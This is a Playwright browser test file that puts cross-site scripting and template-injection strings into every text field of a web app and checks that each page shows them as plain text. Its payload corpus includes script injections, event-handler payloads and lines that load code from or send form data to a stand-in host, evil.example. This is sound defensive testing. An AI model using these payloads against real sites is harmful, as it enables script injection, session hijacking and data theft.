"""What somebody types is text on every page that shows it, whatever it looks like to a browser."""

import itertools
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from tests.browser.pages import STATES, State, signed_in
from tests.browser.walking import Window, enrolled_desk
from tests.browser.world import World, world_of
from tests.processes import Server

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CORPUS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    '"><script src=//evil.example/x.js></script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{background:url(//evil.example/y)}</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=z>",
    "{{ 7 * 7 }}${7*7}<%= 7 * 7 %>",
    "<b hx-get=/sign-out hx-trigger=load>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
INTRUDERS = "img[src=x], script:not([src]), svg[onload], iframe, base, [onfocus], [srcdoc], main b, a[href^=javascript]"
"""Elements that only a text taken for markup would have made."""


@pytest.fixture(scope="module")
def world(founded: Server, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """A desk whose every text is one of the corpus."""
    if founded.process is None:
        founded.start()
    texts = itertools.cycle(CORPUS)
    served = enrolled_desk(founded, tmp_path_factory.mktemp("desk") / "data", "H62.11.08")
    yield world_of(served, lambda field: next(texts)[: LONGEST.get(field, 150)])
    served.kill()


LONGEST = {"number": 60}


@pytest.fixture(scope="module")
def clerk(browser: Browser, world: World) -> Iterator[Window]:
    """A window in which somebody is signed in."""
    with signed_in(browser, world, "vi") as window:
        yield window


@pytest.mark.parametrize("state", STATES, ids=lambda state: state.name.replace("_", " "))
def test_no_page_takes_a_text_for_anything_else(state: State, world: World, clerk: Window) -> None:
    state.reach(clerk.page, world)

    clerk.page.wait_for_load_state()
    assert clerk.page.locator(INTRUDERS).count() == 0
    clerk.assert_nothing_went_wrong()


def test_the_texts_are_shown_as_they_were_typed(world: World, clerk: Window) -> None:
    shown = ""
    for name in ("received", "forwarded", "awaiting_supplement", "resolved", "delivered", "corrected", "stopped"):
        clerk.page.goto(world.url + world.path(name))
        shown += clerk.page.locator("main").inner_text()

    assert [text for text in CORPUS if text not in shown] == []
